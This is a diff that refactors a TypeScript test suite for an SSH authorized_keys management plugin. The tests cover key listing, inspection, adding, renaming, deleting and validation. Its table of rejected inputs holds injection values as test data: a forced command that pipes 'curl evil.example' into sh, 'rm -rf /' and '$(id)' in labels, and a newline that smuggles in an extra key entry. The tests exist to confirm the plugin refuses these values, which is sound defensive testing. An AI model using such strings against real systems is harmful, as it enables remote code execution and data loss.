@@ -3,27 +3,11 @@
  * the plugin's fixtures, the `local` gateway writing into a sandbox per server and checking the files
  * with the machine's `ssh-keygen -l` where it is installed.
  */
-import { execFileSync } from 'node:child_process';
-import {
-  describeAccessMatrix,
-  Server,
-  startPluginPortal,
-  type PluginPortal,
-  type SeededCluster,
-  type TestClient,
-  type TestServer,
-} from '@portal/plugin-sdk/testing';
+import { describeAccessMatrix, hasProgram, startPluginPortal, type PluginPortal, type SeededCluster, type TestClient, type TestServer } from '@portal/plugin-sdk/testing';
 import type { Operations } from '../generated/operations.ts';
 import { testFingerprints, testKeys } from './testKeys.ts';
 
-const hasSshKeygen = (() => {
-  try {
-    execFileSync('ssh-keygen', ['-?'], { stdio: 'ignore' });
-    return true;
-  } catch (e) {
-    return (e as NodeJS.ErrnoException).code !== 'ENOENT';
-  }
-})();
+const hasSshKeygen = hasProgram('ssh-keygen');
 
 let ssh: PluginPortal<Operations>;
 let server: TestServer;
@@ -37,27 +21,13 @@ const deployFile = '/home/deploy/.ssh/authorized_keys';
 const developerFile = '/home/developer/.ssh/authorized_keys';
 const good = { user: 'developer' as const, label: 'Jonas laptop', publicKey: testKeys.ecdsab384 };
 const finished = (jobId: number) => ssh.waitForJob(jobId);
-
-/** Sends a change, expects 202, waits for its job to succeed. */
-async function applied(method: string, url: string, body?: unknown) {
-  const r = await admin.request(method, url, body);
-  expect([r.status, r.body?.error]).toEqual([202, undefined]);
-  expect(r.body).toMatchObject({ pluginId: 'ssh', kind: 'apply' });
-  const job = await finished(r.body.id);
-  expect(job.status).toBe('succeeded');
-  return job;
-}
-
-const file = (path: string) => server.managed.gateway(web).readFile(path);
+const applied = (method: string, url: string, body?: unknown) => ssh.applied(method, url, body);
+const file = (path: string) => ssh.file(path);
 const list = async () => (await ssh.api.call('listSshKeys')).body.data;
-const changeCount = async () => (await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.meta.total as number;
 
 /** This plugin alone (another plugin's state must not matter here) on web01 of the shop cluster, with its demo keys. */
 beforeAll(async () => {
-  ssh = await startPluginPortal<Operations>(() => import('../plugin.ts'), {
-    cluster: '20011',
-    server: (s) => s.role === 'web' && s.name.startsWith('web01'),
-  });
+  ssh = await startPluginPortal<Operations>(() => import('../plugin.ts'), { cluster: '20011', server: (s) => s.role === 'web' && s.name.startsWith('web01') });
   ({ portal: server, admin, cluster: shop } = ssh);
   web = ssh.server.id;
 });
@@ -69,29 +39,16 @@ describe('R2.031 ssh keys', () => {
     expect(r.status).toBe(200);
     expect(r.body.users).toEqual(['deploy', 'developer']);
     const anna = r.body.data.find((k: { label: string }) => k.label === 'Anna Berger (Laptop)');
-    expect(anna).toMatchObject({
-      user: 'deploy',
-      type: 'ssh-ed25519',
-      bits: 256,
-      fingerprint: 'SHA256:gu+hiQ5Qxb9foxUku3nlKptnTrHPF+3c3ZTFsDJSxt0',
-    });
+    expect(anna).toMatchObject({ user: 'deploy', type: 'ssh-ed25519', bits: 256, fingerprint: 'SHA256:gu+hiQ5Qxb9foxUku3nlKptnTrHPF+3c3ZTFsDJSxt0' });
     expect(anna.publicKey).toMatch(/^ssh-ed25519 AAAA\S+$/);
-    expect(r.body.data.find((k: { type: string }) => k.type === 'ssh-rsa')).toMatchObject({
-      bits: 4096,
-      fingerprint: 'SHA256:SxjPRzZUWKLBx4/7wr4pVZ8JkIvxNB0PqaO0JuwHbYc',
-    });
+    expect(r.body.data.find((k: { type: string }) => k.type === 'ssh-rsa')).toMatchObject({ bits: 4096, fingerprint: 'SHA256:SxjPRzZUWKLBx4/7wr4pVZ8JkIvxNB0PqaO0JuwHbYc' });
   });
 
   it('R2.031 inspect reads a key without storing it: type, bits, fingerprint, a label from its comment', async () => {
     const before = (await list()).length;
     const r = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab3072 });
     expect(r.status).toBe(200);
-    expect(r.body).toEqual({
-      type: 'ssh-rsa',
-      bits: 3072,
-      fingerprint: testFingerprints.rsab3072.fingerprint,
-      suggestedLabel: 'test@rsab3072',
-    });
+    expect(r.body).toEqual({ type: 'ssh-rsa', bits: 3072, fingerprint: testFingerprints.rsab3072.fingerprint, suggestedLabel: 'test@rsab3072' });
     const bad = await admin.request('POST', keys('/inspect'), { publicKey: testKeys.rsab2048 });
     expect(bad.status).toBe(422);
     expect(bad.body.error.fields.publicKey).toEqual(['ssh:errors.rsa_too_short']);
@@ -108,20 +65,9 @@ describe('R2.031 ssh keys', () => {
     expect(content).toContain(`${testKeys.ecdsab384.split(' ').slice(0, 2).join(' ')} Jonas laptop\n`);
     expect(content).not.toContain('some-comment');
     const added = (await list()).find((k) => k.label === 'Jonas laptop');
-    expect(added).toMatchObject({
-      user: 'developer',
-      type: 'ecdsa-sha2-nistp384',
-      bits: 384,
-      fingerprint: testFingerprints.ecdsab384.fingerprint,
-    });
-    const change = (await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.data[0];
-    expect(change).toMatchObject({
-      status: 'applied',
-      summary: {
-        key: 'ssh:changes.created',
-        values: { user: 'developer', label: 'Jonas laptop', fingerprint: testFingerprints.ecdsab384.fingerprint },
-      },
-    });
+    expect(added).toMatchObject({ user: 'developer', type: 'ecdsa-sha2-nistp384', bits: 384, fingerprint: testFingerprints.ecdsab384.fingerprint });
+    const change = (await ssh.changes()).data[0];
+    expect(change).toMatchObject({ status: 'applied', summary: { key: 'ssh:changes.created', values: { user: 'developer', label: 'Jonas laptop', fingerprint: testFingerprints.ecdsab384.fingerprint } } });
     expect((await admin.get(`${base(shop.id, web)}/ssh/files`)).body.applied).toBe(true);
   });
 
@@ -130,19 +76,9 @@ describe('R2.031 ssh keys', () => {
     ['R2.031 RSA with 2048 bits', { publicKey: testKeys.rsab2048 }, 'publicKey', 'ssh:errors.rsa_too_short'],
     ['a DSA key', { publicKey: testKeys.dsa }, 'publicKey', 'ssh:errors.type_not_allowed'],
     ['a security key', { publicKey: testKeys.sk }, 'publicKey', 'ssh:errors.type_not_allowed'],
-    [
-      'a private key',
-      { publicKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----' },
-      'publicKey',
-      'ssh:errors.private_key',
-    ],
+    ['a private key', { publicKey: '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjE=\n-----END OPENSSH PRIVATE KEY-----' }, 'publicKey', 'ssh:errors.private_key'],
     ['two keys in one', { publicKey: `${testKeys.ed25519}\n${testKeys.ecdsab256}` }, 'publicKey', 'ssh:errors.multiple_lines'],
-    [
-      'a forced command',
-      { publicKey: `command="curl evil.example | sh" ${testKeys.ed25519}` },
-      'publicKey',
-      'ssh:errors.options_not_allowed',
-    ],
+    ['a forced command', { publicKey: `command="curl evil.example | sh" ${testKeys.ed25519}` }, 'publicKey', 'ssh:errors.options_not_allowed'],
     ['a newline in the label', { label: 'x\ncommand="id" ssh-ed25519 AAAA' }, 'label', 'validation.pattern'],
     ['a semicolon in the label', { label: 'a; rm -rf /' }, 'label', 'validation.pattern'],
     ['a dollar in the label', { label: '$(id)' }, 'label', 'validation.pattern'],
@@ -153,32 +89,23 @@ describe('R2.031 ssh keys', () => {
     ['an option as a property', { options: 'no-pty' }, 'options', 'validation.additionalProperties'],
   ])('refuses %s with 422 on the field: nothing stored, nothing applied', async (_what, patch, field, key) => {
     const count = (await list()).length;
-    const changes = await changeCount();
+    const changes = (await ssh.changes()).total;
     const before = await file(deployFile);
     const r = await admin.request('POST', keys(), { ...good, user: 'deploy', publicKey: testKeys.ed25519, ...patch });
     expect(r.status).toBe(422);
     expect(r.body.error.fields[field]).toContain(key);
     expect(await list()).toHaveLength(count);
-    expect(await changeCount()).toBe(changes);
+    expect((await ssh.changes()).total).toBe(changes);
     expect(await file(deployFile)).toBe(before);
   });
 
   it('R2.031 refuses a duplicate (the same key material for the same user, whatever its comment), allows it for another user', async () => {
     await applied('POST', keys(), { user: 'deploy', label: 'Shared key', publicKey: testKeys.ed25519 });
-    const again = await admin.request('POST', keys(), {
-      user: 'deploy',
-      label: 'Again',
-      publicKey: testKeys.ed25519.replace('test@ed25519', 'other comment'),
-    });
+    const again = await admin.request('POST', keys(), { user: 'deploy', label: 'Again', publicKey: testKeys.ed25519.replace('test@ed25519', 'other comment') });
     expect(again.status).toBe(422);
     expect(again.body.error.fields.publicKey).toEqual(['ssh:errors.duplicate']);
     await applied('POST', keys(), { user: 'developer', label: 'Shared key', publicKey: testKeys.ed25519 });
-    expect(
-      (await list())
-        .filter((k) => k.fingerprint === testFingerprints.ed25519.fingerprint)
-        .map((k) => k.user)
-        .sort(),
-    ).toEqual(['deploy', 'developer']);
+    expect((await list()).filter((k) => k.fingerprint === testFingerprints.ed25519.fingerprint).map((k) => k.user).sort()).toEqual(['deploy', 'developer']);
   });
 
   it('rename: the label (the comment in the file) changes; a bad label is 422', async () => {
@@ -199,10 +126,7 @@ describe('R2.031 ssh keys', () => {
     await applied('DELETE', keys(`/${last.id}`));
     expect(await file(developerFile)).toBeNull();
     expect(await file(deployFile)).toContain('Anna Berger (Laptop)');
-    expect((await admin.get(`${base(shop.id, web)}/managed/changes?plugin=ssh`)).body.data[0].summary).toMatchObject({
-      key: 'ssh:changes.deleted',
-      values: { user: 'developer', label: last.label },
-    });
+    expect((await ssh.changes()).data[0].summary).toMatchObject({ key: 'ssh:changes.deleted', values: { user: 'developer', label: last.label } });
 
     const rb = await admin.request('POST', `${base(shop.id, web)}/managed/plugins/ssh/rollback`);
     expect(rb.status).toBe(202);
@@ -221,21 +145,11 @@ describe('R2.031 ssh keys', () => {
     expect(files.files.map((f: { path: string }) => f.path)).toContain(deployFile);
   });
 
-  it('a key of another server, an unknown id and a server without ssh are 404', async () => {
+  it('a key of another server and an unknown id are 404 (a server without ssh: describeAccessMatrix)', async () => {
     const id = (await list())[0].id;
     const web02 = shop.servers.find((s) => s.name.startsWith('web02'))!.id;
     expect((await admin.request('DELETE', `${base(shop.id, web02)}/ssh/keys/${id}`)).status).toBe(404);
     expect((await admin.request('PATCH', keys('/999999'), { label: 'x' })).status).toBe(404);
-    const em = server.db.orm.em.fork();
-    const s = await em.findOneOrFail(Server, { id: web02 });
-    const services = [...s.services];
-    await em.nativeUpdate(Server, { id: web02 }, { services: services.filter((x) => x !== 'ssh') });
-    try {
-      const r = await admin.get(`${base(shop.id, web02)}/ssh/keys`);
-      expect([r.status, r.body.error.message]).toEqual([404, 'errors.managed_plugin_not_found']);
-    } finally {
-      await em.nativeUpdate(Server, { id: web02 }, { services });
-    }
   });
 });
 
